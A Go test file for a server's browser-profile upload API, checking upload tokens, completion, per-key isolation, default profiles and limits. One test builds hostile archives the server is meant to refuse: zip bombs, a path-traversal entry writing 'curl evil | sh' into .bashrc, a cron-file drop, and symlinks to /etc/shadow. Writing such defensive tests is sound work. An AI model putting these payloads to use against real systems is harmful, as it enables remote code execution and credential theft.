package server_test

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io/fs"
	"math/rand/v2"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hrns-dev/hrns/browser/userdata"
	"github.com/hrns-dev/hrns/openai"
	"github.com/hrns-dev/hrns/openai/openaitest"
	"github.com/hrns-dev/hrns/server"
	"github.com/hrns-dev/hrns/session"
	"github.com/hrns-dev/hrns/store/sqlite"
)

// newProfileEnv is newEnv with the server's profile options.
func newProfileEnv(t *testing.T, popts server.ProfileOptions, sopts *session.Options) *env {
	t.Helper()
	model := openaitest.NewServer()
	t.Cleanup(model.Close)
	st, err := sqlite.Open(filepath.Join(t.TempDir(), "hrns.db"), &sqlite.Options{RelaxedSync: true})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	m := session.New(st, &openai.Client{BaseURL: model.URL(), Model: "test-model"}, sopts)
	if err := m.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(contractHandler(t, newServer(m, &server.Options{APIKeys: []string{keyAlice, keyBob}, Profiles: popts})))
	t.Cleanup(func() {
		srv.Close()
		m.Stop(context.Background())
	})
	return &env{t: t, model: model, url: srv.URL, st: st}
}

// archEntry is an entry of an archive a test builds.
type archEntry struct {
	name string
	body string
	size int         // a file of size zero bytes instead of body
	mode fs.FileMode // zip: a mode other than a regular file's
	typ  byte        // tar: a type flag other than a file's or directory's
}

func profileZip(t *testing.T, ents ...archEntry) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, e := range ents {
		h := &zip.FileHeader{Name: e.name, Method: zip.Deflate}
		if e.mode != 0 {
			h.SetMode(e.mode)
		}
		w, err := zw.CreateHeader(h)
		if err != nil {
			t.Fatal(err)
		}
		if e.size > 0 {
			w.Write(make([]byte, e.size))
		} else {
			w.Write([]byte(e.body))
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func profileTarGz(t *testing.T, ents ...archEntry) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for _, e := range ents {
		body := []byte(e.body)
		if e.size > 0 {
			body = make([]byte, e.size)
		}
		h := &tar.Header{Name: e.name, Mode: 0o644, Typeflag: e.typ}
		switch {
		case h.Typeflag == tar.TypeSymlink || h.Typeflag == tar.TypeLink:
			h.Linkname = "/etc/passwd"
		case h.Typeflag != 0:
		case strings.HasSuffix(e.name, "/"):
			h.Typeflag = tar.TypeDir
		default:
			h.Typeflag, h.Size = tar.TypeReg, int64(len(body))
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if h.Typeflag == tar.TypeReg {
			tw.Write(body)
		}
	}
	tw.Close()
	zw.Close()
	return buf.Bytes()
}

var (
	localState = archEntry{name: "Local State", body: `{"os_crypt":{}}`}
	cookiesDB  = archEntry{name: "Default/Cookies", body: "not really SQLite"}
)

// initiate starts an upload for key: the profile's id, the upload URL and
// the token.
func (e *env) initiate(key string) (id, url, token string) {
	e.t.Helper()
	var v struct {
		ProfileID       string            `json:"profile_id"`
		UploadURL       string            `json:"upload_url"`
		UploadFields    map[string]string `json:"upload_fields"`
		UploadExpiresIn int               `json:"upload_expires_in"`
	}
	e.expect(e.do("POST", "/api/v2/browser-profiles/initiate-upload", key, nil), http.StatusOK).json(&v)
	if v.UploadExpiresIn != 3600 || v.UploadFields["token"] == "" || v.UploadURL != e.url+"/api/v2/browser-profiles/"+v.ProfileID+"/upload" {
		e.t.Fatalf("initiate-upload answered %+v", v)
	}
	return v.ProfileID, v.UploadURL, v.UploadFields["token"]
}

// upload posts the archive to the upload URL as a presigned S3 POST
// takes it (the fields, then the file), without an API key.
func upload(t *testing.T, url, token string, archive []byte) *response {
	t.Helper()
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	if token != "" {
		mw.WriteField("token", token)
	}
	mw.WriteField("key", "ignored")
	fw, _ := mw.CreateFormFile("file", "profile.zip")
	fw.Write(archive)
	mw.Close()
	req, _ := http.NewRequestWithContext(t.Context(), "POST", url, &buf)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var b bytes.Buffer
	b.ReadFrom(resp.Body)
	return &response{status: resp.StatusCode, header: resp.Header, body: b.Bytes()}
}

type profileView struct {
	ID             string            `json:"id"`
	UserID         string            `json:"user_id"`
	OrgID          string            `json:"org_id"`
	Name           string            `json:"name"`
	Description    *string           `json:"description"`
	BrowserName    string            `json:"browser_name"`
	BrowserVersion string            `json:"browser_version"`
	FileSizeBytes  *int64            `json:"file_size_bytes"`
	Checksum       *string           `json:"checksum"`
	UsageCount     int               `json:"usage_count"`
	Labels         map[string]string `json:"labels"`
	IsDefault      bool              `json:"is_default"`
}

// uploadProfile initiates, uploads and completes a profile of key.
func (e *env) uploadProfile(key, name string, archive []byte) profileView {
	e.t.Helper()
	id, url, token := e.initiate(key)
	if r := upload(e.t.(*testing.T), url, token, archive); r.status != http.StatusNoContent {
		e.t.Fatalf("upload: %d %s", r.status, r.body)
	}
	var p profileView
	e.expect(e.do("POST", "/api/v2/browser-profiles/"+id+"/complete-upload", key,
		fmt.Sprintf(`{"name":%q,"browser_name":"chromium","browser_version":"140.0"}`, name)), http.StatusCreated).json(&p)
	return p
}

// TestProfilesAPI: every operation, through HTTP, for the key that owns
// the profile and for another key (which sees nothing of it).
func TestProfilesAPI(t *testing.T) {
	e := newEnv(t, nil)
	archive := profileZip(t, localState, archEntry{name: "Default/"}, cookiesDB)

	id, url, token := e.initiate(keyAlice)
	// Before its upload completes, the profile is nobody's to see.
	e.expect(e.do("GET", "/api/v2/browser-profiles/"+id, keyAlice, nil), http.StatusNotFound)
	e.expect(e.do("POST", "/api/v2/browser-profiles/"+id+"/complete-upload", keyAlice,
		`{"name":"shop","browser_name":"chromium","browser_version":"140.0"}`), http.StatusUnprocessableEntity)
	// The upload needs its token, not an API key.
	if r := upload(t, url, "wrong", archive); r.status != http.StatusForbidden {
		t.Fatalf("a wrong token: %d %s", r.status, r.body)
	}
	if r := upload(t, url, "", archive); r.status != http.StatusForbidden {
		t.Fatalf("no token: %d %s", r.status, r.body)
	}
	if r := upload(t, url, token, archive); r.status != http.StatusNoContent {
		t.Fatalf("upload: %d %s", r.status, r.body)
	}
	// Bob cannot complete Alice's upload.
	e.expect(e.do("POST", "/api/v2/browser-profiles/"+id+"/complete-upload", keyBob,
		`{"name":"mine","browser_name":"chromium","browser_version":"140.0"}`), http.StatusNotFound)
	for _, tc := range []struct{ body, loc string }{
		{`{"browser_name":"chromium","browser_version":"140.0"}`, `"loc":["body","name"]`},
		{`{"name":"x","browser_name":"firefox","browser_version":"140.0"}`, `browser \"firefox\" is not one hrns runs`},
		{`{"name":"x","browser_name":"chromium"}`, `"loc":["body","browser_version"]`},
		{`{"name":"x","browser_name":"chromium","browser_version":"1","labels":{"a":1}}`, `"loc":["body","labels"`},
	} {
		r := e.expect(e.do("POST", "/api/v2/browser-profiles/"+id+"/complete-upload", keyAlice, tc.body), http.StatusUnprocessableEntity)
		if !strings.Contains(string(r.body), tc.loc) {
			t.Errorf("%s: %s, want %s", tc.body, r.body, tc.loc)
		}
	}
	var p profileView
	e.expect(e.do("POST", "/api/v2/browser-profiles/"+id+"/complete-upload", keyAlice,
		`{"name":"shop","browser_name":"chromium","browser_version":"140.0","description":"Logged in","labels":{"team":"ops"}}`), http.StatusCreated).json(&p)
	sum := sha256.Sum256(archive)
	if p.ID != id || p.Name != "shop" || p.BrowserName != "chromium" || p.Description == nil || *p.Description != "Logged in" ||
		p.FileSizeBytes == nil || *p.FileSizeBytes != int64(len(archive)) || p.Checksum == nil || *p.Checksum != hex.EncodeToString(sum[:]) ||
		p.Labels["team"] != "ops" || p.IsDefault || p.UserID == p.OrgID {
		t.Fatalf("completed: %+v", p)
	}
	// Done once: no second completion, no upload.
	e.expect(e.do("POST", "/api/v2/browser-profiles/"+id+"/complete-upload", keyAlice,
		`{"name":"shop","browser_name":"chromium","browser_version":"140.0"}`), http.StatusConflict)
	if r := upload(t, url, token, archive); r.status != http.StatusForbidden {
		t.Fatalf("upload after completion: %d %s", r.status, r.body)
	}

	var got profileView
	e.expect(e.do("GET", "/api/v2/browser-profiles/"+id, keyAlice, nil), http.StatusOK).json(&got)
	if got.ID != id || got.Name != "shop" {
		t.Errorf("get: %+v", got)
	}
	var list struct {
		Total, Limit, Offset int
		Profiles             []profileView
	}
	e.expect(e.do("GET", "/api/v2/browser-profiles?limit=5", keyAlice, nil), http.StatusOK).json(&list)
	if list.Total != 1 || list.Limit != 5 || len(list.Profiles) != 1 || list.Profiles[0].ID != id {
		t.Errorf("list: %+v", list)
	}
	e.expect(e.do("GET", "/api/v2/browser-profiles?limit=0", keyAlice, nil), http.StatusUnprocessableEntity)

	e.expect(e.do("GET", "/api/v2/browser-profiles/default?browser_name=chromium", keyAlice, nil), http.StatusNotFound)
	e.expect(e.do("GET", "/api/v2/browser-profiles/default", keyAlice, nil), http.StatusUnprocessableEntity)
	e.expect(e.do("PUT", "/api/v2/browser-profiles/"+id+"/default", keyAlice, nil), http.StatusOK).json(&got)
	if !got.IsDefault {
		t.Errorf("set default: %+v", got)
	}
	second := e.uploadProfile(keyAlice, "work", archive)
	e.expect(e.do("PUT", "/api/v2/browser-profiles/"+second.ID+"/default", keyAlice, nil), http.StatusOK)
	e.expect(e.do("GET", "/api/v2/browser-profiles/default?browser_name=chromium", keyAlice, nil), http.StatusOK).json(&got)
	if got.ID != second.ID {
		t.Errorf("the default is %s, want the second profile %s", got.ID, second.ID)
	}
	e.expect(e.do("GET", "/api/v2/browser-profiles/"+id, keyAlice, nil), http.StatusOK).json(&got)
	if got.IsDefault {
		t.Error("the replaced default is still marked")
	}

	// Bob sees none of it.
	for _, rq := range []struct{ method, path string }{
		{"GET", "/api/v2/browser-profiles/" + id},
		{"DELETE", "/api/v2/browser-profiles/" + id},
		{"PUT", "/api/v2/browser-profiles/" + id + "/default"},
		{"DELETE", "/api/v2/browser-profiles/" + id + "/default"},
		{"GET", "/api/v2/browser-profiles/default?browser_name=chromium"},
	} {
		e.expect(e.do(rq.method, rq.path, keyBob, nil), http.StatusNotFound)
	}
	e.expect(e.do("GET", "/api/v2/browser-profiles", keyBob, nil), http.StatusOK).json(&list)
	if list.Total != 0 || len(list.Profiles) != 0 {
		t.Errorf("bob's list: %+v", list)
	}
	e.expect(e.do("GET", "/api/v2/browser-profiles", "", nil), http.StatusUnauthorized)
	e.expect(e.do("GET", "/api/v2/browser-profiles/not-a-uuid", keyAlice, nil), http.StatusUnprocessableEntity)

	e.expect(e.do("DELETE", "/api/v2/browser-profiles/"+second.ID+"/default", keyAlice, nil), http.StatusOK).json(&got)
	if got.IsDefault {
		t.Errorf("unset default: %+v", got)
	}
	e.expect(e.do("GET", "/api/v2/browser-profiles/default?browser_name=chromium", keyAlice, nil), http.StatusNotFound)
	e.expect(e.do("DELETE", "/api/v2/browser-profiles/"+id, keyAlice, nil), http.StatusNoContent)
	e.expect(e.do("GET", "/api/v2/browser-profiles/"+id, keyAlice, nil), http.StatusNotFound)
	e.expect(e.do("DELETE", "/api/v2/browser-profiles/"+id, keyAlice, nil), http.StatusNotFound)
}

// TestProfileHostileArchives: archives that would escape, link, plant
// devices or blow up are refused by complete-upload with a 422 saying
// why, and the profile is not made; an archive over the size limit is
// refused by the upload (413).
func TestProfileHostileArchives(t *testing.T) {
	e := newProfileEnv(t, server.ProfileOptions{MaxArchiveBytes: 256 << 10, Unpacked: userdata.Limits{MaxBytes: 1 << 20, MaxEntries: 100}}, nil)
	var many []archEntry
	for i := range 120 {
		many = append(many, archEntry{name: fmt.Sprintf("Default/f%d", i)})
	}
	for _, tc := range []struct {
		name    string
		archive []byte
		want    string
	}{
		{"zip bomb", profileZip(t, localState, archEntry{name: "Default/Cookies", size: 8 << 20}), "unpack to more than 1048576 bytes"},
		{"tar.gz bomb", profileTarGz(t, localState, archEntry{name: "Default/Cookies", size: 8 << 20}), "unpack to more than 1048576 bytes"},
		{"too many entries", profileZip(t, append([]archEntry{localState}, many...)...), "more than 100 entries"},
		{"dotdot", profileZip(t, localState, archEntry{name: "../../.bashrc", body: "curl evil | sh"}), "a path leaving the profile"},
		{"absolute", profileTarGz(t, localState, archEntry{name: "/etc/cron.d/evil", body: "x"}), "an absolute path"},
		{"symlink zip", profileZip(t, localState, archEntry{name: "Default/Cookies", body: "/etc/shadow", mode: fs.ModeSymlink | 0o777}), "is a symbolic link"},
		{"symlink tar", profileTarGz(t, localState, archEntry{name: "Default", typ: tar.TypeSymlink}), "is a symbolic link"},
		{"hard link", profileTarGz(t, localState, archEntry{name: "Default/Cookies", typ: tar.TypeLink}), "is a hard link"},
		{"device", profileTarGz(t, localState, archEntry{name: "Default/mem", typ: tar.TypeChar}), "is a device"},
		{"fifo", profileTarGz(t, localState, archEntry{name: "Default/pipe", typ: tar.TypeFifo}), "is a FIFO"},
		{"not a profile", profileZip(t, cookiesDB), `no \"Local State\" at the archive's top`},
		{"not an archive", []byte("just some text"), "not a zip, tar or tar.gz archive"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e.t = t
			id, url, token := e.initiate(keyAlice)
			if r := upload(t, url, token, tc.archive); r.status != http.StatusNoContent {
				t.Fatalf("upload: %d %s", r.status, r.body)
			}
			r := e.expect(e.do("POST", "/api/v2/browser-profiles/"+id+"/complete-upload", keyAlice,
				`{"name":"x","browser_name":"chromium","browser_version":"140.0"}`), http.StatusUnprocessableEntity)
			if !strings.Contains(string(r.body), tc.want) || !strings.Contains(string(r.body), `"loc":["body","file"]`) {
				t.Errorf("%s, want %q", r.body, tc.want)
			}
			e.expect(e.do("GET", "/api/v2/browser-profiles/"+id, keyAlice, nil), http.StatusNotFound)
			e.expect(e.do("DELETE", "/api/v2/browser-profiles/"+id, keyAlice, nil), http.StatusNoContent)
		})
	}
	e.t = t

	// Over the archive limit: 413 at the upload, saying the limit.
	id, url, token := e.initiate(keyAlice)
	big := make([]byte, 300<<10) // incompressible
	rng := rand.New(rand.NewPCG(1, 2))
	for i := range big {
		big[i] = byte(rng.Uint32())
	}
	r := upload(t, url, token, profileZip(t, localState, archEntry{name: "Default/x", body: string(big)}))
	if r.status != http.StatusRequestEntityTooLarge || !strings.Contains(string(r.body), "larger than 262144 bytes") {
		t.Fatalf("an archive over the limit: %d %s", r.status, r.body)
	}
	e.expect(e.do("POST", "/api/v2/browser-profiles/"+id+"/complete-upload", keyAlice,
		`{"name":"x","browser_name":"chromium","browser_version":"140.0"}`), http.StatusUnprocessableEntity)

	// A form without the file, and a body that is not a form.
	if r := upload(t, url, token, nil); r.status != http.StatusNoContent {
		// An empty file part is an (empty) archive: stored, refused at completion.
		t.Fatalf("an empty file: %d %s", r.status, r.body)
	}
	req, _ := http.NewRequest("POST", url, strings.NewReader("{}"))
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusUnsupportedMediaType {
		t.Errorf("a JSON upload: %d", resp.StatusCode)
	}
}

// TestProfileLimitsPerKey: a key has a bounded number of uploads in
// progress and of profiles (409 beyond, saying so); another key is not
// affected.
func TestProfileLimitsPerKey(t *testing.T) {
	e := newProfileEnv(t, server.ProfileOptions{MaxPerKey: 2, MaxPendingPerKey: 2}, nil)
	e.initiate(keyAlice)
	e.initiate(keyAlice)
	r := e.expect(e.do("POST", "/api/v2/browser-profiles/initiate-upload", keyAlice, nil), http.StatusConflict)
	if !strings.Contains(string(r.body), "2 profile uploads in progress") {
		t.Errorf("%s", r.body)
	}
	archive := profileZip(t, localState)
	e.uploadProfile(keyBob, "a", archive)
	e.uploadProfile(keyBob, "b", archive)
	r = e.expect(e.do("POST", "/api/v2/browser-profiles/initiate-upload", keyBob, nil), http.StatusConflict)
	if !strings.Contains(string(r.body), "keeps 2 browser profiles") {
		t.Errorf("%s", r.body)
	}
}
